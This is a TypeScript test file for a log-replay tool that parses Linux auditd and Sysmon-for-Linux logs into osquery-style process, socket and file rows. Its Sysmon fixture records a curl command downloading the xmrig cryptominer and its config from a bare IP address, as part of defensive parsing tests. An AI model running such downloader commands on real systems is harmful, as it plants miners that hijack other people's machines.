/**
 * Host records from Linux audit logs and Sysmon for Linux syslog, read from real logs (fixtures/PROVENANCE.md):
 * detection, the osquery-shaped rows they become, hex and XML decoding, malformed lines counted with file:line.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { dedupeId } from '../../collector/loggers/kafka/messages.js';
import { fromRoot } from '../../common/paths.js';
import type { ResultEvent } from '../../schemas/generated/result_event.js';
import { detectFormat, type ReplayRecord } from './sources.js';
import { loadRecords } from './stream.js';
import { parseSysmonEvent, sysmonRecord, unescapeXml } from './sysmon.js';

const AUDIT = fromRoot('cli/replay/fixtures/auditd-samples.log');
const SYSMON = fromRoot('cli/replay/fixtures/sysmon-ore-syslog.log');

function tempDir(t: { after(fn: () => void): void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'osprey-host-logs-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

const lines = (file: string): string[] => readFileSync(file, 'utf8').split('\n');

function rows(records: readonly ReplayRecord[]): { name: string; host: string; columns: Record<string, string> }[] {
  return records.map((r) => {
    assert.equal(r.input.kind, 'host');
    const value = r.input.value as { name: string; hostIdentifier: string; columns: Record<string, string> };
    return { name: value.name, host: value.hostIdentifier, columns: value.columns };
  });
}

test('audit logs and syslog files with Sysmon events are recognised; other syslog files are not', () => {
  assert.equal(detectFormat(lines(AUDIT)), 'auditd');
  assert.equal(detectFormat(lines(SYSMON)), 'sysmon');
  // The Sysmon event need not be first: other programs log to the same file.
  assert.equal(detectFormat(['Nov 24 09:59:49 ip-172-31-60-25 xmrig[4090]: started', ...lines(SYSMON)]), 'sysmon');
  assert.equal(detectFormat(['Nov 24 09:59:49 ip-172-31-60-25 xmrig[4090]: started']), null);
});

test('audit execve events become process_events rows: arguments, hex arguments and cwd as auditd recorded them', async () => {
  const loaded = await loadRecords([AUDIT], 'replay');
  assert.deepEqual(loaded.malformed, []);
  const process = rows(loaded.records).filter((r) => r.name === 'auditd_process_events');
  // grep, logger, ls and iptables execve; sendmsg on a unix socket, chronyd's adjtimex and a connect without a
  // SOCKADDR record are no process or network event (skipped: 3).
  assert.deepEqual(
    process.map((r) => [r.columns.pid, r.columns.parent, r.columns.path, r.columns.cmdline, r.columns.cwd]),
    [
      ['13393', '12041', '/usr/bin/grep', 'grep --color=auto mapping', '/home/andrew_kroh'],
      [
        '26918',
        '26595',
        '/usr/bin/logger',
        // a5 is hex in the log; the OMS plugin's expected output has the same text.
        'logger -t zfs-backup -p daemon.err zfs incremental backup of rpool/lxd failed: ',
        '/',
      ],
      ['5541', '5540', '/bin/ls', '/bin/ls /', '/'],
      ['91098', '16244', '/usr/sbin/xtables-multi', 'iptables -w -t security --flush', '/var/lib/waagent'],
    ],
  );
  assert.equal(loaded.files[0]?.skipped, 3);
  // node= names the host; without it the file name does.
  assert.deepEqual(
    process.map((r) => r.host),
    ['auditd-samples', 'test', 'auditd-samples', 'auditd-samples'],
  );
  const grep = process[0]?.columns ?? {};
  assert.equal(grep.time, '1492037291');
  assert.equal(grep.uid, '1000');
  assert.equal(grep.gid, '1001');
  assert.equal(grep.syscall, 'execve');
  assert.equal(grep.eid, '59');
});

test('an audit connect becomes a socket_events row with the SOCKADDR address decoded', async () => {
  const loaded = await loadRecords([AUDIT], 'replay');
  const sockets = rows(loaded.records).filter((r) => r.name === 'auditd_socket_events');
  assert.equal(sockets.length, 1);
  const nc = sockets[0]?.columns ?? {};
  // The same event's PROCTITLE is `nc msdn.com 443` (hex in the log): port 0x01BB, address BF.EF.D5.C5.
  assert.equal(nc.action, 'connect');
  assert.equal(nc.pid, '29036');
  assert.equal(nc.path, '/bin/nc.openbsd');
  assert.equal(nc.remote_address, '191.239.213.197');
  assert.equal(nc.remote_port, '443');
  // As the live audit publisher writes it: a connect's local end is not in the record.
  assert.equal(nc.local_port, '0');
  assert.equal(nc.local_address, '');
  assert.equal(nc.status, 'succeeded');
  assert.equal(nc.family, '2');
  assert.equal(nc.fd, '3');
  assert.equal(nc.success, '1');
});

test('ENRICHED audit records (interpreted fields after 0x1D) read as the raw ones', async (t) => {
  const file = join(tempDir(t), 'enriched.log');
  // An Ubuntu 24.04 wget connect as auditd's log_format=ENRICHED writes it (raw fields, 0x1D, interpreted fields).
  const gs = '\x1d';
  writeFileSync(
    file,
    [
      'type=SYSCALL msg=audit(1759405347.496:4900): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffef2766160 ' +
        'a2=10 a3=8 items=0 ppid=1900 pid=1920 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 ' +
        'fsgid=0 tty=(none) ses=4294967295 comm="wget" exe="/usr/bin/wget" key="T1043_Commonly_Used_Port"' +
        `${gs}ARCH=x86_64 SYSCALL=connect AUID="unset" UID="root" GID="root" EUID="root" SUID="root"`,
      `type=SOCKADDR msg=audit(1759405347.496:4900): saddr=020001BB36ABE6370000000000000000${gs}SADDR={ saddr_fam=inet laddr=54.171.230.55 lport=443 }`,
      'type=PROCTITLE msg=audit(1759405347.496:4900): proctitle=77676574002D2D74696D656F7574003630',
      '',
    ].join('\n'),
  );
  const loaded = await loadRecords([file], 'replay');
  assert.deepEqual(loaded.malformed, []);
  const [wget] = rows(loaded.records);
  assert.equal(wget?.name, 'auditd_socket_events');
  assert.deepEqual(
    [wget?.columns.pid, wget?.columns.path, wget?.columns.remote_address, wget?.columns.remote_port],
    ['1920', '/usr/bin/wget', '54.171.230.55', '443'],
  );
});

test("host rows carry the collector's dedupe id of the same row", async () => {
  for (const record of (await loadRecords([AUDIT, SYSMON], 'replay')).records) {
    assert.equal(record.input.kind, 'host');
    const event = record.input.value as ResultEvent;
    assert.equal(event.id, dedupeId(event, 'added', event.columns as Record<string, string>));
  }
});

test('a line that is not an audit record is counted with file:line; the events around it are read', async (t) => {
  const file = join(tempDir(t), 'audit.log');
  const text = readFileSync(AUDIT, 'utf8').split('\n');
  // RHEL 7's auditd wrote `type=UNKNOWN[1329] msg=?` (go-libaudit's audit-rhel7.log); a cut line is garbage.
  writeFileSync(file, [...text.slice(0, 3), 'type=UNKNOWN[1329] msg=?', 'ppid=1 pid=2', ...text.slice(3)].join('\n'));
  const loaded = await loadRecords([file], 'replay');
  assert.deepEqual(
    loaded.malformed.map((m) => `${m.file}:${m.line}`),
    [`${file}:4`, `${file}:5`],
  );
  assert.equal(loaded.records.length, (await loadRecords([AUDIT], 'replay')).records.length);
});

test('Sysmon events become process, socket and file rows; other syslog lines are skipped', async () => {
  const loaded = await loadRecords([SYSMON], 'replay');
  assert.deepEqual(loaded.malformed, []);
  assert.equal(loaded.files[0]?.skipped, 1); // the xmrig line
  const all = rows(loaded.records);
  assert.ok(all.every((r) => r.host === 'ip-172-31-60-25'));
  assert.deepEqual(
    all.map((r) => r.name),
    [
      'sysmon_process_events',
      'sysmon_file_events',
      'sysmon_process_events',
      'sysmon_socket_events',
      'sysmon_file_events',
      'sysmon_socket_events',
      'sysmon_file_events',
      'sysmon_process_events',
    ],
  );
  const curl = all[2]?.columns ?? {};
  assert.deepEqual(
    [curl.pid, curl.parent, curl.path, curl.cwd, curl.syscall],
    ['4005', '4004', '/usr/bin/curl', '/opt/automation', 'execve'],
  );
  assert.equal(curl.cmdline, 'curl -s -O http://44.204.18.94:80/xmrig -O http://44.204.18.94:80/config.json');
  const connect = all[3]?.columns ?? {};
  assert.deepEqual(
    [connect.action, connect.pid, connect.protocol, connect.local_address, connect.local_port],
    ['connect', '4005', '6', '172.31.60.25', '42234'],
  );
  assert.deepEqual([connect.remote_address, connect.remote_port], ['44.204.18.94', '80']);
  assert.equal(all[4]?.columns.target_path, '/opt/automation/xmrig');
  assert.equal(all[7]?.columns.syscall, 'exit');
  // Event time is the event's UtcTime, to the millisecond.
  assert.equal(new Date(loaded.records[3]?.time ?? 0).toISOString(), '2022-11-24T09:59:47.930Z');
});

test('an inbound Sysmon connection (Initiated false) is an accept whose local end is the destination', () => {
  const outbound = lines(SYSMON)[3] ?? '';
  const inbound = outbound.replace('<Data Name="Initiated">true</Data>', '<Data Name="Initiated">false</Data>');
  const event = parseSysmonEvent(inbound, { file: 'syslog', line: 4 });
  assert.ok(event);
  const row = sysmonRecord(event, 'fallback')?.value.columns ?? {};
  assert.deepEqual(
    [row.action, row.local_address, row.local_port, row.remote_address, row.remote_port, row.family],
    ['accept', '44.204.18.94', '80', '172.31.60.25', '42234', '2'],
  );
});

test('a Sysmon line cut short is malformed with file:line; XML entities are decoded', () => {
  const line = lines(SYSMON)[2] ?? '';
  assert.throws(() => parseSysmonEvent(line.slice(0, 400), { file: 'syslog', line: 7 }), /syslog:7: .*cut short/);
  const escaped = line.replace('/opt/automation</Data>', '/opt/a&amp;b &lt;x&gt;</Data>');
  assert.equal(parseSysmonEvent(escaped, { file: 'syslog', line: 1 })?.data.CurrentDirectory, '/opt/a&b <x>');
  assert.equal(unescapeXml('&#65;&#x42;&quot;'), 'AB"');
  assert.equal(parseSysmonEvent('Nov 24 09:59:49 host cron[1]: job', { file: 'syslog', line: 2 }), null);
});
